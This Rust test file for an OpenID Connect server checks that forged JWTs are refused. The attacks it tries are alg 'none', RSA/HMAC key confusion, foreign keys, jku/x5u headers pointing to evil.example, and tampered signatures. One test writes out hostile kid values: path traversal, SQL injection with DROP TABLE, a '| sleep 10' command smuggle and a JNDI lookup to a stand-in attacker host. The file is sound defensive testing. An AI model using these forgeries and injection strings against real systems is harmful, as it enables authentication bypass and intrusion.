//! Forged tokens, and tokens used for something that they were not issued for.

use aws_lc_rs::encoding::AsDer as _;
use aws_lc_rs::hmac;
#[allow(clippy::disallowed_types, reason = "the attacker's random numbers come from the system")]
use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::rsa::KeySize;
use aws_lc_rs::signature::{KeyPair as _, RSA_PKCS1_SHA256, RsaKeyPair, RsaPublicKeyComponents};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::attack_fixture;
use crate::harness::{
    HttpRequest, JwkSet, SignInFixture, Tokens, attack_server, decode_jwt, encode_form, oauth_error,
    register_app,
};

fn part(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

fn signed_part(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// The claims of a real token with a late expiry, under this header.
fn message(header: &Value, real: &str) -> String {
    let (_, mut claims) = decode_jwt(real);
    claims["exp"] = json!(4_000_000_000_u32);
    format!("{}.{}", part(header), part(&claims))
}

/// Expects every endpoint to refuse the token.
#[track_caller]
fn expect_refused(fixture: &SignInFixture<'_>, token: &str, what: &str) {
    let answer = fixture.userinfo(token);
    assert_eq!(answer.status, 401, "{what}: {answer:?}");
    assert!(answer.header("www-authenticate").starts_with("Bearer"), "{what}: {answer:?}");
    assert_eq!(fixture.introspect(token), json!({"active": false}), "{what}");
    let browser = fixture.browser();
    let hinted = browser.get(&fixture.authorization_request().with("id_token_hint", token).path());
    assert_eq!(hinted.params()["error"], "invalid_request", "{what}: {hinted:?}");
    let leaving = encode_form(&[("id_token_hint", token)]);
    let left = browser.get(&format!("/auth/core/connect/endsession?{leaving}"));
    assert_eq!((left.status, left.location()), (200, ""), "{what}: {left:?}");
}

/// A DER value with its tag and length.
fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut all = vec![tag];
    match u8::try_from(length) {
        Ok(short) if short < 128 => all.push(short),
        Ok(byte) => all.extend([0x81, byte]),
        Err(_) => all.extend([0x82, u8::try_from(length >> 8).unwrap(), u8::try_from(length & 255).unwrap()]),
    }
    all.extend_from_slice(content);
    all
}

fn pem(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<&str> =
        text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

/// The published key in every form that could be taken for a shared secret.
fn public_key_forms(key: &Value) -> Vec<Vec<u8>> {
    let number = |member: &str| URL_SAFE_NO_PAD.decode(key[member].as_str().unwrap()).unwrap();
    let (n, e) = (number("n"), number("e"));
    let integer = |bytes: &[u8]| der(2, &[&[0], bytes].concat());
    let pkcs1 = der(0x30, &[integer(&n), der(2, &e)].concat());
    let rsa = [0x30, 13, 6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 13, 1, 1, 1, 5, 0];
    let spki = der(0x30, &[&rsa[..], &der(3, &[&[0], &pkcs1[..]].concat())].concat());
    let pems = [pem("PUBLIC KEY", &spki), pem("RSA PUBLIC KEY", &pkcs1)];
    let mut all =
        vec![key.to_string().into_bytes(), key["n"].as_str().unwrap().into(), n, pkcs1, spki, vec![]];
    all.extend(
        pems.iter()
            .flat_map(|pem| [pem.clone().into_bytes(), pem.trim().into(), pem.replace('\n', "").into()]),
    );
    all
}

#[test]
fn alg_none_is_refused() {
    let fixture = attack_fixture(1, &[]);
    let real = fixture.tokens();
    let (header, _) = decode_jwt(real.access());
    for alg in ["none", "None", "NONE", "nOnE", ""] {
        let forged = message(&json!({"alg": alg, "typ": "JWT", "kid": header["kid"]}), real.access());
        let signature = real.access().rsplit_once('.').unwrap().1;
        for token in
            [format!("{forged}."), forged.clone(), format!("{forged}.{signature}"), format!("{forged}..")]
        {
            expect_refused(&fixture, &token, alg);
        }
    }
    fixture.server.assert_healthy();
}

#[test]
fn public_key_is_not_accepted_as_an_hmac_secret() {
    let fixture = attack_fixture(1, &[]);
    let real = fixture.tokens();
    let key = JwkSet::fetch(fixture.server).0[0].clone();
    let forged = message(&json!({"alg": "HS256", "typ": "JWT", "kid": key["kid"]}), real.access());
    for secret in public_key_forms(&key) {
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), forged.as_bytes());
        let token = format!("{forged}.{}", signed_part(tag.as_ref()));
        expect_refused(&fixture, &token, &String::from_utf8_lossy(&secret));
    }
    fixture.server.assert_healthy();
}

struct ForeignKey(RsaKeyPair);

impl ForeignKey {
    fn new() -> Self {
        Self(RsaKeyPair::generate(KeySize::Rsa2048).unwrap())
    }

    #[allow(clippy::disallowed_types, reason = "the attacker's random numbers come from the system")]
    fn sign(&self, header: &Value, real: &str) -> String {
        let message = message(header, real);
        let mut signature = vec![0; self.0.public_modulus_len()];
        self.0.sign(&RSA_PKCS1_SHA256, &SystemRandom::new(), message.as_bytes(), &mut signature).unwrap();
        format!("{message}.{}", signed_part(&signature))
    }

    fn jwk(&self) -> Value {
        let public: RsaPublicKeyComponents<Vec<u8>> = self.0.public_key().into();
        json!({"kty": "RSA", "alg": "RS256", "use": "sig", "kid": "mine",
               "n": signed_part(&public.n), "e": signed_part(&public.e)})
    }
}

#[test]
fn foreign_key_is_refused_whatever_the_header_says() {
    let fixture = attack_fixture(1, &[]);
    let real = fixture.tokens();
    let (real_header, _) = decode_jwt(real.access());
    let (foreign, kid) = (ForeignKey::new(), &real_header["kid"]);
    let jwk = foreign.jwk();
    let spki = foreign.0.public_key().as_der().map(|der| STANDARD.encode(der.as_ref())).unwrap();
    let trap = format!("{}/auth/core/.well-known/jwks", attack_server().public_url);
    for header in [
        json!({"alg": "RS256", "typ": "JWT", "kid": kid}),
        json!({"alg": "RS256", "typ": "JWT"}),
        json!({"alg": "RS256", "typ": "JWT", "kid": "mine", "jwk": jwk}),
        json!({"alg": "RS256", "typ": "JWT", "kid": kid, "jwk": jwk}),
        json!({"alg": "RS256", "typ": "JWT", "jwk": jwk}),
        json!({"alg": "RS256", "typ": "JWT", "kid": "mine", "jku": "https://evil.example/jwks"}),
        json!({"alg": "RS256", "typ": "JWT", "kid": kid, "jku": trap}),
        json!({"alg": "RS256", "typ": "JWT", "kid": "mine", "x5u": "https://evil.example/cert.pem"}),
        json!({"alg": "RS256", "typ": "JWT", "kid": kid, "x5c": [spki]}),
        json!({"alg": "RS256", "typ": "JWT", "kid": kid, "crit": ["exp"]}),
        json!({"alg": "RS256", "typ": "JWT", "kid": kid, "crit": [], "b64": false}),
        json!({"alg": "PS256", "typ": "JWT", "kid": kid}),
        json!({"alg": ["RS256"], "typ": "JWT", "kid": kid}),
        json!({"alg": null, "kid": kid}),
        json!([]),
    ] {
        expect_refused(&fixture, &foreign.sign(&header, real.access()), &header.to_string());
    }
    fixture.server.assert_healthy();
}

#[test]
fn kid_is_not_used_as_a_path_or_query() {
    let fixture = attack_fixture(1, &[]);
    let real = fixture.tokens();
    let empty_secret = hmac::Key::new(hmac::HMAC_SHA256, b"");
    let (header, _) = decode_jwt(real.access());
    let real_kid = header["kid"].as_str().unwrap();
    let long = "k".repeat(10_000);
    let nearly =
        [real_kid.to_lowercase(), format!("{real_kid} "), format!("{real_kid}\0"), format!("./{real_kid}")];
    for kid in [
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://evil.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' --",
        "'; DROP TABLE signing_keys; --",
        "| sleep 10",
        "${jndi:ldap://evil.example/x}",
        "%s%s%n",
        "\u{0}",
        "",
        &long,
    ]
    .into_iter()
    .chain(nearly.iter().map(String::as_str))
    {
        for alg in ["HS256", "RS256"] {
            let forged = message(&json!({"alg": alg, "typ": "JWT", "kid": kid}), real.access());
            let tag = hmac::sign(&empty_secret, forged.as_bytes());
            expect_refused(&fixture, &format!("{forged}.{}", signed_part(tag.as_ref())), kid);
        }
    }
    assert_eq!(fixture.userinfo(real.access()).status, 200, "the keys are still published");
    fixture.server.assert_healthy();
}

#[test]
fn signature_covers_every_byte() {
    let fixture = attack_fixture(1, &[]);
    let real = fixture.tokens();
    let parts: Vec<&str> = real.access().split('.').collect();
    let (header, mut claims) = decode_jwt(real.access());
    claims["sub"] = json!("somebody-else");
    let other = fixture.tokens();
    let others: Vec<&str> = other.access().split('.').collect();
    let cut = &parts[2][..parts[2].len() - 4];
    for token in [
        format!("{}.{}.{}", part(&header), part(&claims), parts[2]),
        format!("{}.{}.{}", parts[0], parts[1], others[2]),
        format!("{}.{}.{cut}", parts[0], parts[1]),
        format!("{}.{}.{}=", parts[0], parts[1], parts[2]),
        format!("{}=.{}.{}", parts[0], parts[1], parts[2]),
        format!("{}.{}.{}.", parts[0], parts[1], parts[2]),
        format!("{}.{}.{}.{}", parts[0], parts[1], parts[2], parts[2]),
        format!("{}.{}.{}", parts[0], parts[2], parts[1]),
        format!("{}.{}.{}", parts[0], parts[1], "A".repeat(parts[2].len())),
        format!("{}..{}", parts[0], parts[2]),
        "..".into(),
        ".".into(),
        "x".into(),
        "x".repeat(20_000),
    ] {
        let refused = fixture.userinfo(&token);
        assert_eq!(refused.status, 401, "{token}");
        // A hint that is longer than any token is refused for its length; either way it is an error.
        let hinted =
            fixture.browser().get(&fixture.authorization_request().with("id_token_hint", &token).path());
        assert!(!hinted.has_code() && !hinted.location().contains("/login"), "{token}: {hinted:?}");
    }
    fixture.server.assert_healthy();
}

#[test]
fn token_types_are_not_interchangeable() {
    let fixture = attack_fixture(1, &[]);
    let browser = fixture.browser();
    let callback = fixture.authorize(&browser, &fixture.authorization_request()).params();
    let tokens = Tokens::from_response(&fixture.exchange(&callback["code"]));
    for id_token in [tokens.id(), &callback["id_token"]] {
        assert_eq!(fixture.userinfo(id_token).status, 401, "an id_token is not an access token");
        assert_eq!(fixture.introspect(id_token), json!({"active": false}));
        assert_eq!(fixture.revoke(id_token).status, 200);
        let posted = fixture.post_form("connect/userinfo", &[("access_token", id_token)]);
        assert_eq!(posted.status, 401);
    }
    assert_eq!(fixture.userinfo(tokens.refresh()).status, 401);
    assert_eq!(fixture.userinfo(tokens.access()).status, 200, "the id_tokens revoked nothing");
    let hinted = browser.get(&fixture.authorization_request().with("id_token_hint", tokens.access()).path());
    assert_eq!(hinted.params()["error"], "invalid_request", "an access token is not a hint");
    let leaving = encode_form(&[("id_token_hint", tokens.access())]);
    let question = browser.follow_redirects(browser.get(&format!("/auth/core/connect/endsession?{leaving}")));
    assert!(
        question.has_field("ticket"),
        "an access token is not a hint, so the user is asked: {question:?}"
    );
    let other = fixture.with_app(register_app(fixture.server, &[]));
    let foreign = browser.get(&other.authorization_request().with("id_token_hint", tokens.id()).path());
    assert_eq!(foreign.params()["error"], "invalid_request", "an id_token of another client is not a hint");
    fixture.server.assert_healthy();
}

#[test]
fn tokens_of_another_server_are_refused() {
    let (attacked, other_server) = (attack_fixture(1, &[]), SignInFixture::new());
    let foreign = other_server.tokens();
    for token in [foreign.access(), foreign.id()] {
        expect_refused(&attacked, token, "another server's");
    }
    assert_eq!(oauth_error(&attacked.refresh(foreign.refresh()), 400), "invalid_grant");
    attacked.server.assert_healthy();
}

#[test]
fn access_token_is_accepted_only_in_the_header_or_body() {
    let fixture = attack_fixture(1, &[]);
    let tokens = fixture.tokens();
    let query = encode_form(&[("access_token", tokens.access())]);
    let url = format!("{}/auth/core/connect/userinfo?{query}", fixture.server.public_url);
    assert_eq!(HttpRequest::get(&url).send().status, 401, "URLs end up in logs");
    let twice = fixture
        .request("connect/userinfo")
        .header("authorization", &format!("Bearer {}", tokens.access()))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(query.clone())
        .send();
    assert_eq!(twice.status, 400);
    let doubled =
        fixture.post_form("connect/userinfo", &[("access_token", tokens.access()), ("access_token", "x")]);
    assert_ne!(doubled.status, 200);
    for scheme in ["Basic", "Bearerx", "DPoP", "MAC"] {
        let url = format!("{}/auth/core/connect/userinfo", fixture.server.public_url);
        let line = format!("{scheme} {}", tokens.access());
        assert_eq!(HttpRequest::get(&url).header("authorization", &line).send().status, 401, "{scheme}");
    }
    fixture.server.assert_healthy();
}
